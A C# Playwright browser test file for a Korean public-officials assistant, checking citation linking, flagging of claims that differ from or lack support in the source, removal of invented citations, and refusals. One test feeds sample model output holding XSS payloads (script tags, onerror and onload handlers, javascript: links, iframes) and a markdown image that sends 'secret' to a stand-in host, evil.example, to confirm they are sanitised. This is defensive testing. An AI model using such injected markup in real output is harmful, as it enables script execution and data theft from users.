using System.Text.RegularExpressions;

namespace OfficialsAssistant.BrowserTests;

public sealed class AnswerTests(BrowserApp app) : IClassFixture<BrowserApp>
{
    [SkippableFact]
    public Task ACitationLeadsToItsSentenceInTheDocument() => app.VisitAsync(async page =>
    {
        using var answer = new HeldAnswer("당직명령은 근무예정일 7일전까지 ", "소속기관의 장이 발령하여야 한다. [1]");
        app.Model.Next(answer.Reply);
        await page.OpenStartAsync();
        await page.AskAsync();
        await Expect(page.Locator(".steps")).ToContainTextAsync(new Regex("근거 [0-9]+건.*쓰면서 확인하는 중"));
        await Expect(page.Answer().Text()).ToContainTextAsync("7일전까지");
        await Expect(page.StopButton()).ToBeVisibleAsync();
        answer.ReleaseNext();
        var closed = await page.ClosedAsync();
        await Expect(closed.Text()).ToContainTextAsync(ChatPage.DutySentence);
        await Expect(page.Locator(".steps li")).ToHaveCountAsync(0);
        await Expect(page).ToHaveURLAsync(ChatPage.ConversationAddress());

        await closed.Citations().ClickAsync();
        await Expect(closed.Citations()).ToHaveAttributeAsync("aria-pressed", "true");
        await Expect(page.Panel().Locator("mark")).ToContainTextAsync(ChatPage.DutySentence);
        await Expect(page.Panel().Locator("mark")).ToBeInViewportAsync();
        await Expect(page.Panel()).ToContainTextAsync("기한 일치");

        await page.Panel().GetByRole(AriaRole.Link, new() { Name = "원문 보기" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("가람구 당직근무 규칙");
        await Expect(page.Locator("#cited")).ToContainTextAsync(ChatPage.DutySentence);
        await Expect(page.Locator("#cited")).ToBeInViewportAsync();
        await Expect(page.Locator(".tree a[href*='#'][aria-current]")).ToContainTextAsync("제7조");
    });

    [SkippableFact]
    public Task SourcesStandUnderTheAnswerWithTheSameNumbers() => app.VisitAsync(async page =>
    {
        var closed = await page.AnswerFromStartAsync("당직명령은 며칠 전까지 내고 당직일지는 누구에게 제출합니까?");
        var number = await closed.Citations().First.GetAttributeAsync("data-cite");
        var source = closed.Locator($".srcs > ul [data-cite='{number}']");
        await Expect(source).ToContainTextAsync("가람구 당직근무 규칙 제9조(당직일지)");
        await Expect(source).ToContainTextAsync("현행");
        await Expect(closed.Locator(".srcs > ul > li")).ToHaveCountAsync(1);
        await Expect(closed.Locator(".uncited summary")).ToContainTextAsync("인용하지 않은 구절");
        await source.ClickAsync();
        await Expect(page.Panel()).ToContainTextAsync("제9조(당직일지)");
    });

    [SkippableFact]
    public Task WhatDiffersFromTheSourceIsStruckAndSaysWhy() => app.VisitAsync(async page =>
    {
        app.Model.Next(Written.About("당직명령은 근무예정일 10일전까지 소속기관의 장이 발령하여야 한다. [{duty}]"));
        var closed = await page.AnswerFromStartAsync();
        await Expect(closed.Locator("del.wrong")).ToContainTextAsync("10일전까지");
        await Expect(closed.Locator(".why.bad")).ToContainTextAsync("답변은 ‘10일전까지’, 원문은 ‘7일전까지’입니다.");
        await Expect(closed.Locator("del.wrong .cite")).ToHaveCountAsync(0);
        await Expect(closed.Locator(".verify")).ToHaveTextAsync("원문과 다름 1");
        await closed.Locator(".why.bad .cite").ClickAsync();
        await Expect(page.Panel().Locator("mark")).ToContainTextAsync("7일전까지");
        await Expect(page.Panel().Locator(".cmp h3.bad")).ToContainTextAsync("원문과 다름");
    });

    [SkippableFact]
    public Task WhatCouldNotBeConfirmedIsDottedAndSaysWhy() => app.VisitAsync(async page =>
    {
        app.Model.Next(Written.About("당직명령은 근무예정일 7일전까지 소속기관의 장이 발령하여야 한다. [{duty}] 어기면 과태료 30만원을 낸다. [{duty}] 구청 식당은 매주 새로운 메뉴를 내놓는다."));
        var closed = await page.AnswerFromStartAsync();
        await Expect(closed.Locator(".unsure").First).ToContainTextAsync("과태료 30만원을 낸다.");
        await Expect(closed.Locator(".why.warn").First).ToContainTextAsync("찾은 구절에 ‘30만원’이 없습니다.");
        await Expect(closed.Locator(".why.warn").Last).ToContainTextAsync("이 문장에는 근거 번호가 없습니다.");
        await Expect(closed.Locator(".verify > *")).ToHaveTextAsync(["확인됨 1", "확인 못 함 2"]);
    });

    [SkippableFact]
    public Task AnInventedCitationIsTakenOutAndCounted() => app.VisitAsync(async page =>
    {
        app.Model.Next(ScriptedReply.InventingCitations(ChatPage.DutySentence, 77));
        var closed = await page.AnswerFromStartAsync();
        await Expect(closed.Text()).ToContainTextAsync(ChatPage.DutySentence);
        await Expect(closed.Citations()).ToHaveCountAsync(0);
        await Expect(closed.Text()).Not.ToContainTextAsync("77");
        await Expect(closed.Locator(".ending")).ToContainTextAsync("찾은 구절에 없는 근거 번호 1개를 뺐습니다.");
    });

    [SkippableFact]
    public Task ARefusalSaysWhyAndWhatIsNearest() => app.VisitAsync(async page =>
    {
        var before = app.Model.Requests.Count;
        var closed = await page.AnswerFromStartAsync("당직수당은 얼마입니까?");
        Assert.Equal(before, app.Model.Requests.Count);
        await Expect(closed.Locator(".refusal")).ToContainTextAsync("근거를 찾지 못했습니다");
        await Expect(closed.Locator(".refusal")).ToContainTextAsync("자료실에는 그 별표의 본문이 없습니다");
        await closed.Locator(".nearest a").First.ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("가람구 당직근무 규칙");
        await Expect(page.Locator(".art.on")).ToBeInViewportAsync();
    });

    [SkippableFact]
    public Task MarkupOfTheModelStaysText() => app.VisitAsync(async page =>
    {
        app.Model.Next(Written.About("""
            당직명령은 근무예정일 7일전까지 소속기관의 장이 발령하여야 한다. [{duty}]

            <script>window.hit = 1</script><img src="http://evil.example/a.png" onerror="window.hit = 1">
            <svg onload="window.hit=1"><a href="http://evil.example">x</a></svg><iframe src="http://evil.example/"></iframe>

            ![도표](http://evil.example/?d=secret) [누르세요](javascript:window.hit=1) [원문](http://evil.example/) <http://evil.example/>

            <style>@import url(http://evil.example/a.css);</style><form action="http://evil.example/"><input name="q"></form>
            """));
        var closed = await page.AnswerFromStartAsync();
        await Expect(closed.Text()).ToContainTextAsync("누르세요");
        await Expect(closed.Locator("script, img, iframe, style, form, input, a, :is(.md :is(svg:not(.ic), object, embed, link))")).ToHaveCountAsync(0);
        Assert.Null(await page.EvaluateAsync<int?>("window.hit ?? null"));
        await page.ReloadAsync();
        await Expect(page.Answer().Text()).ToContainTextAsync("누르세요");
        Assert.Null(await page.EvaluateAsync<int?>("window.hit ?? null"));
    });

    [SkippableFact]
    public Task ATableScrollsInItsOwnBoxAndKeepsItsMarks() => app.VisitAsync(async page =>
    {
        app.Model.Next(Written.About("""
            | 할 일 | 기한 |
            |---|---|
            | 당직명령 발령 | 근무예정일 7일전까지 [{duty}] |
            | 과태료 납부 | 30만원 [{duty}] |
            """));
        var closed = await page.AnswerFromStartAsync();
        await Expect(closed.GetByRole(AriaRole.Region, new() { Name = "표 1: 할 일, 기한" })).ToHaveAttributeAsync("tabindex", "0");
        await Expect(closed.Locator("tbody tr:not(.whyrow)")).ToHaveCountAsync(2);
        await Expect(closed.Locator("tr.whyrow")).ToHaveCountAsync(1);
        await Expect(closed.Locator("td .cite")).ToHaveCountAsync(2);
    });
}
